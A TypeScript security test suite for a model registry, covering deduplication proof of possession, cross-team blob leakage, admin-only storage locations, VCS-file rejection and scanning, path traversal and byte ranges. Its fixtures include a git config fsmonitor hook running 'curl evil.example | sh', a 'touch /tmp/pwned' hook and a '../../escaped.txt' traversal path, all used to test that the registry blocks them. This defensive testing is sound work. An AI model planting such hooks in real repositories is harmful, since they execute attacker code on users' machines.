/**
 * What the registry must not give away or accept: deduplication only against bytes the caller may
 * already read, no answer that tells whether another team holds a blob, storage locations for
 * admins only, VCS metadata refused at upload and never listed or served (even when stored before
 * the rule), but always scanned; 416 for a range past the end of a file.
 */
import { createHash, randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import path from 'node:path';
import { Readable } from 'node:stream';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../src/api/app.js';
import { resolveVersion, VersionFields } from '../src/catalog/index.js';
import { schema } from '../src/core/db/index.js';
import { createLogger } from '../src/core/logger.js';
import { systemActor, type Scope } from '../src/identity/index.js';
import { createScanner } from '../src/scanner/scan.js';
import { createTestServices, withAuth } from './harness.js';

const SYS = systemActor('test');
const digestOf = (b: Buffer) => `sha256:${createHash('sha256').update(b).digest('hex')}`;

let app: FastifyInstance;
let cleanup: () => Promise<void>;
let services: Awaited<ReturnType<typeof createTestServices>>['services'];
let adminToken = '';
let dataDir = '';
const tokens: Record<string, string> = {};
const as = (who: string) => ({ authorization: `Bearer ${tokens[who]}` });

/** Bytes only team beta's draft holds, and bytes of a published version of beta. */
const secret = randomBytes(50_000);
const published = Buffer.from('{"architectures":["BertModel"],"hidden_size":64}');

async function modelWith(slug: string, team: string, version: string, files: [string, Buffer][], approve: boolean) {
  await services.catalog.createModel(SYS, { slug, name: slug, ownerTeam: team, description: `${slug} model`, tasks: ['text-classification'], domains: [], tags: [], baseModel: null });
  await services.catalog.createVersion(SYS, slug, VersionFields.parse({ version }));
  for (const [p, body] of files) {
    const u = await services.registry.startUpload(SYS, slug, version, { path: p, digest: digestOf(body), size: body.length });
    if (!u.complete) await services.registry.appendChunk(SYS, u.id, 0, Readable.from([body]));
  }
  await services.registry.commitFiles(SYS, slug, version);
  if (approve) await services.catalog.updateVersion(SYS, slug, version, { lifecycle: 'approved' });
}

async function userToken(username: string, scopes: Scope[]): Promise<string> {
  const admin = (await services.identity.resolveToken(adminToken, 'setup'))!;
  return (await services.identity.createToken(admin, { name: `${username}-token`, scopes, expiresInDays: 1, username })).token;
}

beforeAll(async () => {
  const t = await createTestServices('pglite');
  services = t.services;
  cleanup = t.cleanup;
  adminToken = t.adminToken;
  dataDir = t.dataDir;
  for (const [name, team] of [['contrib-a', 'alpha'], ['contrib-b', 'beta']] as const) {
    await services.identity.createUser(SYS, { username: name });
    await services.identity.addMembership(SYS, team, name, 'contributor');
    tokens[name] = await userToken(name, ['read', 'write']);
  }
  await modelWith('beta-secret', 'beta', '0.1.0', [['weights.bin', secret]], false);
  await modelWith('beta-pub', 'beta', '1.0.0', [['config.json', published], ['model.safetensors', randomBytes(100)]], true);
  await services.catalog.createModel(SYS, { slug: 'alpha-m', name: 'alpha-m', ownerTeam: 'alpha', description: 'alpha model', tasks: ['text-classification'], domains: [], tags: [], baseModel: null });
  for (const version of ['0.1.0', '0.2.0']) await services.catalog.createVersion(SYS, 'alpha-m', VersionFields.parse({ version }));
  app = withAuth(await buildApp({ services, logger: createLogger('silent'), webDir: '/nonexistent' }), t.adminToken);
});
afterAll(async () => {
  await app?.close();
  await cleanup?.();
});

const declare = (who: string, version: string, file: { path: string; digest: string; size: number }) =>
  app.inject({ method: 'POST', url: `/api/v1/models/alpha-m/versions/${version}/uploads`, headers: as(who), payload: file });
const patch = (who: string, id: string, body: Buffer) =>
  app.inject({ method: 'PATCH', url: `/api/v1/uploads/${id}`, headers: { ...as(who), 'content-type': 'application/offset+octet-stream', 'upload-offset': '0' }, payload: body });
/** An upload answer without what differs by design (its id, path and digest). */
const shape = (s: Record<string, unknown>) => ({ ...s, id: undefined, path: undefined, digest: undefined });

describe('deduplication needs proof of possession', () => {
  it('asks for the bytes of a blob only another team’s draft holds, answering as for a wrong guess, and stores them once', async () => {
    const right = await declare('contrib-a', '0.1.0', { path: 'weights.bin', digest: digestOf(secret), size: secret.length });
    const wrong = await declare('contrib-a', '0.2.0', { path: 'guess.bin', digest: digestOf(randomBytes(secret.length)), size: secret.length });
    expect(right.statusCode).toBe(201);
    expect(right.json()).toMatchObject({ deduplicated: false, complete: false, offset: 0 });
    expect(shape(right.json())).toEqual(shape(wrong.json()));
    const status = (id: string) => app.inject({ url: `/api/v1/uploads/${id}`, headers: as('contrib-a') });
    const [s1, s2] = [await status(right.json().id), await status(wrong.json().id)];
    expect(shape(s1.json())).toEqual(shape(s2.json()));
    expect(s1.headers['upload-offset']).toBe(s2.headers['upload-offset']);
    // a declaration alone commits nothing
    expect((await app.inject({ method: 'POST', url: '/api/v1/models/alpha-m/versions/0.1.0/files/commit', headers: as('contrib-a') })).json().error.code).toBe('CONFLICT');

    // sending the right bytes works, and the store keeps one copy
    const before = (await app.inject('/api/v1/registry/stats')).json();
    const sent = await patch('contrib-a', right.json().id, secret);
    expect(sent.json()).toMatchObject({ complete: true, offset: secret.length, deduplicated: false });
    const committed = await app.inject({ method: 'POST', url: '/api/v1/models/alpha-m/versions/0.1.0/files/commit', headers: as('contrib-a') });
    expect(committed.statusCode).toBe(200);
    const after = (await app.inject('/api/v1/registry/stats')).json();
    expect(after.referencedBytes - before.referencedBytes).toBe(secret.length);
    expect(after.storedBytes).toBe(before.storedBytes);
    const downloaded = await app.inject({ url: '/api/v1/models/alpha-m/versions/0.1.0/files/weights.bin', headers: as('contrib-a') });
    expect(digestOf(downloaded.rawPayload)).toBe(digestOf(secret));
  });

  it('needs no bytes for a file of a version the caller may read', async () => {
    const r = await declare('contrib-a', '0.2.0', { path: 'config.json', digest: digestOf(published), size: published.length });
    expect(r.json()).toMatchObject({ deduplicated: true, complete: true, offset: published.length });
  });

  it('marks files shared, and counts storage, only over versions the reader can see', async () => {
    // alpha-m@0.1.0's weights.bin has the bytes of beta's draft: contrib-a must not learn that
    const files = (await app.inject({ url: '/api/v1/models/alpha-m/versions/0.1.0/files', headers: as('contrib-a') })).json().items;
    expect(files).toEqual([expect.objectContaining({ path: 'weights.bin', shared: false })]);
    const adminView = (await app.inject('/api/v1/models/alpha-m/versions/0.1.0/files')).json().items;
    expect(adminView).toEqual([expect.objectContaining({ path: 'weights.bin', shared: true })]);
    // contrib-a sees beta-pub and alpha-m: nothing of theirs is stored twice
    const stats = (await app.inject({ url: '/api/v1/registry/stats', headers: as('contrib-a') })).json();
    expect(stats.savedBytes).toBe(0);
    expect((await app.inject('/api/v1/registry/stats')).json().savedBytes).toBe(secret.length);
  });

  it('shows where blobs are stored to admins only', async () => {
    const mine = (await app.inject({ url: '/api/v1/models/beta-pub/versions/1.0.0/files', headers: as('contrib-a') })).json().items;
    expect(mine.length).toBe(2);
    for (const f of mine) expect(f).not.toHaveProperty('location');
    const admin = (await app.inject('/api/v1/models/beta-pub/versions/1.0.0/files')).json().items;
    expect(admin[0].location).toMatch(/^file:\/\/.*blobs/);
  });
});

describe('version-control metadata and files tools trust', () => {
  it('are refused when an upload is declared, with a reason code', async () => {
    const body = Buffer.from('[core]\n\tfsmonitor = "curl evil.example | sh"\n');
    for (const [p, reason] of [
      ['.git/config', 'VCS_METADATA'],
      ['.git', 'VCS_METADATA'],
      ['sub/.GIT./HEAD', 'VCS_METADATA'],
      ['GIT~1/config', 'VCS_METADATA'],
      ['.hg/hgrc', 'VCS_METADATA'],
      ['.gitattributes', 'TOOL_TRUSTED'],
      ['.envrc', 'TOOL_TRUSTED'],
    ] as const) {
      const r = await declare('contrib-a', '0.2.0', { path: p, digest: digestOf(body), size: body.length });
      expect([r.statusCode, r.json().error?.details?.problems?.[0]?.reason], p).toEqual([400, reason]);
    }
  });

  it('stored before the rule, are neither listed nor served, by the API or /hf, but are scanned', async () => {
    await modelWith('legacy', 'beta', '1.0.0', [['model.safetensors', Buffer.from('weights')]], true);
    const hook = Buffer.from('[core]\n\tfsmonitor = "touch /tmp/pwned"\n');
    const blob = await services.registry.putSmallBlob(hook);
    const v = (await resolveVersion(services.database.db, 'legacy', '1.0.0'))!;
    await services.database.db.insert(schema.versionFiles).values({ versionId: v.id, path: '.git/config', digest: blob.digest, size: blob.size, format: 'other' });

    const listed = (await app.inject({ url: '/api/v1/models/legacy/versions/1.0.0/files', headers: as('contrib-a') })).json().items;
    expect(listed.map((f: { path: string }) => f.path)).toEqual(['model.safetensors']);
    const download = await app.inject({ url: '/api/v1/models/legacy/versions/1.0.0/files/.git/config', headers: as('contrib-a') });
    expect([download.statusCode, download.json().error.details.reason]).toEqual([404, 'VCS_METADATA']);

    const hf = (u: string, init: Record<string, unknown> = {}) => app.inject({ url: `/hf${u}`, headers: as('contrib-a'), ...init });
    const info = (await hf('/api/models/beta/legacy')).json();
    expect(info.siblings.map((s: { rfilename: string }) => s.rfilename)).toEqual(['model.safetensors']);
    const tree = (await hf('/api/models/beta/legacy/tree/main?recursive=true')).json();
    expect(tree.map((e: { path: string }) => e.path)).toEqual(['model.safetensors']);
    expect((await hf('/api/models/beta/legacy/tree/main/.git')).statusCode).toBe(404);
    const resolved = await hf('/beta/legacy/resolve/main/.git/config');
    expect([resolved.statusCode, resolved.headers['x-error-code']]).toEqual([404, 'EntryNotFound']);
    expect((await hf('/beta/legacy/raw/main/.git/config')).statusCode).toBe(404);
    const paths = await hf('/api/models/beta/legacy/paths-info/main', {
      method: 'POST',
      headers: { ...as('contrib-a'), 'content-type': 'application/x-www-form-urlencoded' },
      payload: 'paths=.git%2Fconfig&paths=model.safetensors',
    });
    expect(paths.json().map((e: { path: string }) => e.path)).toEqual(['model.safetensors']);

    // the security scan of the version covers every file it holds, and blocks the hook
    const report = await services.registry.withVersionFolder(v.id, (dir) => createScanner().scanPath(dir));
    expect(report.files.map((f) => f.path).sort()).toEqual(['.git/config', 'model.safetensors']);
    expect(report.files.find((f) => f.path === '.git/config')).toMatchObject({ verdict: 'block', findings: expect.arrayContaining([expect.objectContaining({ code: 'VCS_METADATA' })]) });
    expect(report.verdict).toBe('block');
  });
});

describe('stored paths written to disk on the server', () => {
  it('never land outside the scratch folder, whatever an old row holds', async () => {
    await modelWith('escape', 'beta', '1.0.0', [['config.json', published], ['README.md', Buffer.from('# escape')]], false);
    const v = (await resolveVersion(services.database.db, 'escape', '1.0.0'))!;
    const blob = await services.registry.putSmallBlob(Buffer.from('written where it should not be'));
    await services.database.db.insert(schema.versionFiles).values({ versionId: v.id, path: '../../escaped.txt', digest: blob.digest, size: blob.size, format: 'other' });
    // scan-<uuid>/../../escaped.txt would be <data dir>/escaped.txt
    await expect(services.registry.withVersionFolder(v.id, async () => 'scanned')).rejects.toMatchObject({ code: 'INVALID_INPUT' });
    const x = await app.inject('/api/v1/models/escape/versions/1.0.0/extraction');
    expect(x.statusCode, x.body).toBe(200);
    expect(existsSync(path.join(dataDir, 'escaped.txt'))).toBe(false);
    expect(existsSync(path.join(dataDir, 'scratch', '..', 'escaped.txt'))).toBe(false);
  });
});

describe('byte ranges', () => {
  it('answers a range past the end with 416 and the file size, on the API and /hf, GET and HEAD', async () => {
    const url = '/api/v1/models/beta-pub/versions/1.0.0/files/config.json';
    const size = published.length;
    for (const method of ['GET', 'HEAD'] as const) {
      const r = await app.inject({ method, url, headers: { range: `bytes=${size}-` } });
      expect([r.statusCode, r.headers['content-range']], method).toEqual([416, `bytes */${size}`]);
      if (method === 'GET') expect(r.json().error.code).toBe('RANGE_NOT_SATISFIABLE');
      const hf = await app.inject({ method, url: '/hf/beta/beta-pub/resolve/main/config.json', headers: { range: 'bytes=999999-1000000' } });
      expect([hf.statusCode, hf.headers['content-range']], `hf ${method}`).toEqual([416, `bytes */${size}`]);
    }
    // a form the server does not serve (several ranges, another unit) is ignored: the whole file
    for (const range of ['bytes=0-1,4-5', 'items=0-1', 'bytes=9-3']) {
      const r = await app.inject({ url, headers: { range } });
      expect([r.statusCode, r.rawPayload.length], range).toEqual([200, size]);
    }
    expect((await app.inject({ url, headers: { range: 'bytes=-5' } })).rawPayload.equals(published.subarray(size - 5))).toBe(true);
  });
});
